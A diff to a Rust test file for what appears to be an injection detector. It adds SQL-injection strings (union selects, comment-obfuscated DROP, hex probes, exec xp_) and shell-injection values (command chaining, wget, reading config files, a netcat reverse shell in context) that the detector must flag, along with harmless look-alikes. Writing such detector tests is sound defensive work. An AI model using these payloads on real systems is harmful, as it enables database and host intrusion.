@@ -43,6 +43,31 @@ fn sqli() {
         "1 procedure analyse()",
         "'||(select 1)||'",
         "' or '{\"a\":1}'::jsonb @> '{\"a\":1}'",
+        "user'collate U&\"$1#\"--",
+        ", find_in_set('22', category )",
+        "and deleted = 0)",
+        "&& 1==(",
+        "x[@vendor]=(SELECT",
+        "if(2=",
+        "colour like '",
+        "1unionselect2",
+        "except \tselect.1,2",
+        ";RePLAcE/*x*/t/*x*/(id, name) VALUES (1, 'x');",
+        "FROM `t` WHERE `t`.`id` = 25251 LIMIT",
+        " IN (815919, 815920, 815921, 815922, 815923, 815924, 815925, 815926, 815927, 815928)",
+        "IN/**/(",
+        "DR/**/OP/*x*/sampletable",
+        "concat(0x223e3c,version(),0x3c69)",
+        "foo\\''or'oof",
+        "a@b`;",
+        "; --",
+        "1 exec sp_ (or exec xp_)",
+        "' = #",
+        "' or xyz-",
+        "MSBhbmQgMT0y",
+        "select 0x616263",
+        "VALUES ('192.0.2.1', 'x')",
+        "FROM+`a`+WHERE+CONVERT(`a`.`id`+USING+utf8)+=+'x'+LIMIT",
     ];
     all(Judge::Sqli, true, &attacks);
     let harmless = [
@@ -62,6 +87,24 @@ fn sqli() {
         "C# and F#",
         "where is the order by mail?",
         "5 in 1",
+        "find (in set)",
+        "deleted = 0)",
+        "and so on)",
+        "if (2 of us",
+        "\"I like 'em\"",
+        "trade union selection",
+        "from a place where we met",
+        "dr/op",
+        "cross/**/over",
+        "execute() the plan",
+        "select 2",
+        "values (of a company)",
+        "from+here+where+it+is",
+        "can't; don't",
+        "'and then he said'",
+        "notes; see -- below",
+        "set @home",
+        "in (Berlin and Paris)",
     ];
     all(Judge::Sqli, false, &harmless);
 }
@@ -113,6 +156,13 @@ fn shell() {
         "| nc -e /bin/sh 192.0.2.1 4444",
         "&& ping -c 10 127.0.0.1",
         "a;who^ami",
+        ";id\\n",
+        "&& | dir c:\\",
+        "|$u wget test",
+        "https://www.example.com/?a=b#x=env --version",
+        "code=ansible-console",
+        "\" | type %SystemDrive%\\config.ini | \"",
+        "x%26%26%2B%7C%2Bdir%20c:%5c",
     ];
     all(Judge::Shell, true, &attacks);
     let harmless = [
@@ -124,6 +174,9 @@ fn shell() {
         "(id)",
         "the host; a test of time",
         "head & shoulders",
+        "https://www.example.com/?find=time",
+        "https://www.example.com/?q=env",
+        "sort=date",
     ];
     all(Judge::Shell, false, &harmless);
 }
